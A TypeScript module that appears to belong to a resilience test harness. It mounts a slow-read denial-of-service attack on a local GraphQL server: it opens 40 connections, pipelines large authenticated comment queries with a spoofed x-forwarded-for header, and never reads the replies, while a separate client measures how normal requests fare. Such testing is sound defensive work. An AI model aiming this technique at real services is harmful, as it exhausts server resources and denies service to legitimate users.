/** Responses just below the limit that are not read, over connections that stay open. */
import { connect, type Socket } from 'node:net';
import { type Attack, pause, send, type Target } from '../attack.js';
import { writeComments } from '../world.js';

/** 3.9 MiB as JSON. */
const COMMENTS = 10;
const BODY = '\u0007'.repeat(65_536);
const CONNECTIONS = 40;
const REQUESTS_EACH = 4;
const OPEN_EVERY_MS = 50;
const CHECK_EVERY_MS = 300;

const attack: Attack = {
  name: 'asks for 160 responses of 3.9 MiB on 40 connections and reads none',
  prepare: (world, attacker) => writeComments(world, attacker, { count: COMMENTS, body: BODY }),
  async run(target, tally, signal) {
    const sockets: Socket[] = [];
    const opening = (async () => {
      for (let n = 0; n < CONNECTIONS && !signal.aborted; n++) {
        sockets.push(askUnread(target, () => tally.add('disconnected')));
        tally.add('asked', 0);
        await pause(OPEN_EVERY_MS, signal);
      }
    })();
    // Meanwhile a connection that reads notes how the viewer is answered.
    while (!signal.aborted) {
      await pause(CHECK_EVERY_MS, signal);
      const { status, bytes } = await send(target, { body: bodyOf(target), signal }).catch(() => ({
        status: 0,
        bytes: 0,
      }));
      if (status !== 0) tally.add(status, bytes);
    }
    await opening;
    for (const socket of sockets) socket.destroy();
  },
};
export default attack;

function bodyOf({ attacker }: Target): string {
  const query = `query ($id: ID) { task(id: $id) { comments(first: ${COMMENTS}) { nodes { body } } } }`;
  return JSON.stringify({ query, variables: { id: attacker.taskIds[0] } });
}

function askUnread(target: Target, closed: () => void): Socket {
  const { port, attacker } = target;
  const body = bodyOf(target);
  const head = [
    'POST /graphql HTTP/1.1',
    'host: x',
    'content-type: application/json',
    `authorization: Bearer ${attacker.token}`,
    `x-forwarded-for: ${attacker.address}`,
    `content-length: ${Buffer.byteLength(body)}`,
  ];
  const socket = connect(port, '127.0.0.1');
  socket.pause();
  socket.on('error', () => {});
  socket.once('close', closed);
  socket.write(`${head.join('\r\n')}\r\n\r\n${body}`.repeat(REQUESTS_EACH));
  return socket;
}
